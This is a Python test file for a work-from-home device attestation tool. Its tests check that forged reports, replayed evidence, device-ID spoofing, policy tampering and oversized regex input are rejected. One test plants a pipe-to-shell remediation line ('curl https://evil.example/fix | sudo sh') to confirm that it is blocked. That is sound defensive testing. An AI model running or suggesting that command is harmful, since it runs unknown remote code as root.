"""What a worker or a newcomer did with only what they have, each now refused with its reason.

One test per scenario of issue 12; the forged-facts case for every probe is in
test_forged_facts.py.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import time
from pathlib import Path
from typing import Any

import pytest
from tests.security.office import Office, run

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")


def _forge(predicate: dict[str, Any], values: dict[str, Any]) -> dict[str, Any]:
    forged = json.loads(json.dumps(predicate))
    for key, value in values.items():
        forged["facts"][key] = {"status": "observed", "value": value, "sources": ["forged"]}
    for finding in forged["findings"]:
        if finding["fact"] in values and finding["status"] == "FAIL":
            finding.update(status="PASS", blocking=False, remediation="")
    forged["summary"]["verdict"] = "READY"
    return forged


def test_edited_facts_with_own_key_and_live_nonce_are_evidence_mismatch(tmp_path: Path) -> None:
    """Facts set to true, signed with the worker's own key, the campaign nonce added."""
    office = Office(tmp_path)
    honest = office.report(office.predicate, "honest.wfh.json")
    forged = _forge(office.predicate, {"firewall.enabled": True, "disk.system_encrypted": True,
                                       "vpn.active": True, "audio.headset_present": True})
    forged["campaign"] = office.campaign
    forged["sequence"] += 1
    code, results = office.verify(honest, office.report(forged, "forged.wfh.json"))
    assert code == 4
    assert results[0]["reason"] in ("VERIFIED", "NONCE_MISSING")
    assert results[1]["reason"] == "EVIDENCE_MISMATCH"
    for key in ("firewall.enabled", "disk.system_encrypted", "vpn.active"):
        assert key in results[1]["detail"]
    assert "4 fact(s) differ" in results[1]["detail"]


def test_honest_report_with_the_nonce_verifies(tmp_path: Path) -> None:
    office = Office(tmp_path)
    predicate = dict(office.predicate, campaign=office.campaign)
    code, results = office.verify(office.report(predicate))
    assert (code, results[0]["reason"]) == (0, "VERIFIED"), results
    assert results[0]["verifierVerdict"] == "NOT_READY" and results[0]["custody"] == "user"


def test_replay_cannot_take_the_campaign_nonce(tmp_path: Path) -> None:
    """`check --campaign c.json --replay old-evidence.json` is refused before anything runs."""
    office = Office(tmp_path)
    res = run("check", "--campaign", office.campaign_file, "--replay", office.bundle,
              "--policy", office.policy, "--out", tmp_path / "out")
    assert res.exit_code == 2
    assert "replayed evidence is not a live check" in res.stderr
    assert not (tmp_path / "out").exists()


def test_replayed_report_is_rejected_and_never_counted_ready(tmp_path: Path) -> None:
    """A report made with --replay: verify says REPLAYED, aggregate never counts it READY."""
    office = Office(tmp_path, cases={"os": "debian12", "firewall": "nft-inet-drop-policy",
                                     "disk": "c-luks2-root", "vpn": "full-default-via-tun",
                                     "audio": "pa16-json-usb-headset-selected",
                                     "network": "loopback-clean-wired"})
    res = run("check", "--replay", office.bundle, "--policy", office.policy, "--out",
              tmp_path / "reports")
    assert res.exit_code in (0, 1), res.output
    (report,) = (tmp_path / "reports").glob("*.wfh.json")
    code, results = office.verify(report)
    assert (code, results[0]["reason"]) == (4, "REPLAYED")
    res = run("aggregate", tmp_path / "reports", "--trust", office.trust, "--min-ready", "100",
              "--max-age", "1d", "--json", tmp_path / "fleet.json")
    assert res.exit_code != 0
    fleet = json.loads((tmp_path / "fleet.json").read_text())
    assert fleet["counts"]["devices_ready"] == 0
    assert fleet["counts"]["rejected_by_reason"] == {"REPLAYED": 1}


def _enrol_setup(tmp_path: Path) -> tuple[Path, Path, Path]:
    key = tmp_path / "it" / "admin.pem"
    draft = tmp_path / "it" / "trust.draft.json"
    assert run("trust", "init", "--admin-key", key, "--create-admin-key", "--draft",
               draft).exit_code == 0
    assert run("keys", "init").exit_code == 0
    first = tmp_path / "first.pub"
    assert run("keys", "export", "-o", first).exit_code == 0
    assert run("trust", "add-device", "--key", first, "--draft", draft).exit_code == 0
    return key, draft, first


def test_newcomer_cannot_take_over_an_enrolled_device_id(tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """The newcomer edits the `wfhaudit-device-id:` line of their export to a colleague's id."""
    _, draft, first = _enrol_setup(tmp_path)
    victim = first.read_text().splitlines()[0].split(":", 1)[1].strip()
    newcomer_home = tmp_path / "newcomer"
    newcomer_home.mkdir(mode=0o700)
    monkeypatch.setenv("WFHAUDIT_HOME", str(newcomer_home))
    assert run("keys", "init").exit_code == 0
    export = tmp_path / "newcomer.pub"
    assert run("keys", "export", "-o", export).exit_code == 0
    original = export.read_text()
    lines = original.splitlines()
    export.write_text("\n".join([f"wfhaudit-device-id: {victim}", *lines[1:]]) + "\n")
    res = run("trust", "add-device", "--key", export, "--draft", draft)
    assert res.exit_code == 3
    assert f"device {victim} is already enrolled" in res.stderr and "--rotate" in res.stderr
    assert "Enrolled" not in res.stderr
    export.write_text(original)
    res = run("trust", "add-device", "--key", export, "--draft", draft)
    assert res.exit_code == 0, res.output  # the same key under its own id is fine


def test_admin_key_and_a_colleagues_key_are_refused(tmp_path: Path) -> None:
    _, draft, first = _enrol_setup(tmp_path)
    bare = tmp_path / "bare.pub"  # the colleague's key without its device-id line
    bare.write_text("\n".join(first.read_text().splitlines()[1:]) + "\n")
    res = run("trust", "add-device", "--key", bare, "--device-id", "dev-other", "--draft", draft)
    assert res.exit_code == 3 and "already enrolled for" in res.stderr
    admin_pub = draft.parent / "wfhaudit-admin.pub"
    res = run("trust", "add-device", "--key", admin_pub, "--device-id", "dev-it", "--draft", draft)
    assert res.exit_code == 3 and "is the IT admin key" in res.stderr


def test_rotation_is_explicit_and_sign_prints_the_key_diff(tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    key, draft, first = _enrol_setup(tmp_path)
    device = first.read_text().splitlines()[0].split(":", 1)[1].strip()
    res = run("trust", "sign", "--admin-key", key, "--out", tmp_path / "trust.json", "--draft",
              draft)
    assert res.exit_code == 0 and f"+ {device}: key sha256:" in res.stderr
    assert run("keys", "init", "--force").exit_code == 0
    assert run("keys", "export", "-o", tmp_path / "new.pub").exit_code == 0
    res = run("trust", "add-device", "--key", tmp_path / "new.pub", "--rotate", "--draft", draft)
    assert res.exit_code == 0, res.output
    assert "superseded its old key" in res.stderr
    res = run("trust", "sign", "--admin-key", key, "--out", tmp_path / "trust.json", "--draft",
              draft)
    assert res.exit_code == 0
    assert f"+ {device}: key sha256:" in res.stderr
    assert f"- {device}: key sha256:" in res.stderr and "superseded" in res.stderr


def test_future_revocation_keeps_the_device_expected(tmp_path: Path) -> None:
    """`trust revoke --reason retired --at <in 30 days>`: the device counts until then."""
    office = Office(tmp_path)
    kid = office.draft["devices"][0]["keys"][0]["keyid"]
    at = office.now + dt.timedelta(days=30)
    office.draft["revoked"].append({"keyid": kid, "revokedAt": at.strftime("%Y-%m-%dT%H:%M:%SZ"),
                                    "reason": "retired"})
    office.draft["campaigns"] = []
    office.sign_trust()
    report = office.report(office.predicate)
    _, results = office.verify(report)
    assert results[0]["reason"] == "VERIFIED" and results[0]["verifierVerdict"] == "NOT_READY"
    res = run("aggregate", report.parent, "--trust", office.trust, "--fail-on", "critical",
              "--min-ready", "100", "--json", tmp_path / "fleet.json")
    assert res.exit_code == 1, res.output
    assert "1/1" not in res.stderr or "0/1" in res.stderr
    fleet = json.loads((tmp_path / "fleet.json").read_text())
    assert fleet["counts"]["devices_expected"] == 1 and fleet["counts"]["devices_ready"] == 0
    assert fleet["gate"]["decided_by"] in ("min-ready", "fail-on")


def test_page_shows_the_accepted_policy_not_the_reports_copy(tmp_path: Path) -> None:
    """render --trust: id/version/title and remediation from the report are refused."""
    office = Office(tmp_path)
    forged = json.loads(json.dumps(office.predicate))
    forged["campaign"] = office.campaign
    forged["policy"].update(id="strict", version="9.9.9")
    res = run("render", office.report(forged, "a.wfh.json"), "--trust", office.trust, "-o",
              tmp_path / "a.html")
    assert res.exit_code == 4 and "POLICY_MISMATCH" in res.stderr
    assert "policy.id 'strict'" in res.stderr
    forged = json.loads(json.dumps(office.predicate))
    forged["campaign"] = office.campaign
    failing = next(f for f in forged["findings"] if f["status"] == "FAIL")
    failing["remediation"] = "curl https://evil.example/fix | sudo sh"
    res = run("render", office.report(forged, "b.wfh.json"), "--trust", office.trust, "-o",
              tmp_path / "b.html")
    assert res.exit_code == 4 and "POLICY_MISMATCH" in res.stderr
    assert "remediation" in res.stderr
    assert "curl" not in (tmp_path / "b.html").read_text()


def test_catastrophic_regex_input_is_bounded(tmp_path: Path) -> None:
    """An accepted `matches: Ubuntu.*22\\.04.*LTS` and a 288 KB os.version: verify stays fast."""
    office = Office(tmp_path, settings={})
    policy = json.loads(office.policy.read_text())
    policy["rules"] = [{"id": "lts", "title": "An LTS release", "fact": "os.version",
                        "expect": {"matches": "Ubuntu.*22\\.04.*LTS"}, "severity": "low"}]
    office.policy.write_text(json.dumps(policy))
    predicate = office.live_check()
    office.draft["acceptedPolicies"] = []
    from wfhaudit.trust.draft import accept_policy

    accept_policy(office.draft, predicate["policy"]["digest"])
    office.draft["campaigns"] = []
    office.sign_trust()
    predicate["facts"]["os.version"]["value"] = ("Ubuntu 22.04 " * 22_200)[:288_000]
    predicate["evidence"] = None
    predicate["evidence_level"] = "none"
    report = office.report(predicate, "big.wfh.json")
    assert len(report.read_bytes()) > 288_000
    for argv in (("verify", report, "--trust", office.trust, "--json"),
                 ("aggregate", report.parent, "--trust", office.trust, "--json",
                  tmp_path / "f.json"),
                 ("render", report, "--trust", office.trust, "-o", tmp_path / "p.html")):
        start = time.monotonic()
        res = run(*argv)
        assert time.monotonic() - start < 1.0, argv[0]
        assert res.exit_code == 4, res.output
        assert "SCHEMA_INVALID" in res.output + (tmp_path / "f.json").read_text() \
            if argv[0] == "aggregate" else "SCHEMA_INVALID" in res.output


def test_key_in_a_folder_owned_by_another_user_is_not_used(tmp_path: Path) -> None:
    """`check` must refuse a key it finds in a folder someone else owns (as keys init does)."""
    if os.geteuid() != 0:
        pytest.skip("needs POSIX file modes and root to hand the folder to another user")
    assert run("keys", "init").exit_code == 0
    home = Path(os.environ["WFHAUDIT_HOME"])
    os.chown(home, 65534, 65534)
    try:
        res = run("check", "--only", "os", "--policy", "baseline", "--out", tmp_path / "r")
        assert res.exit_code == 3, res.output
        assert "belongs to another user" in res.stderr
        assert not list((tmp_path / "r").glob("*.wfh.json"))
    finally:
        os.chown(home, 0, 0)
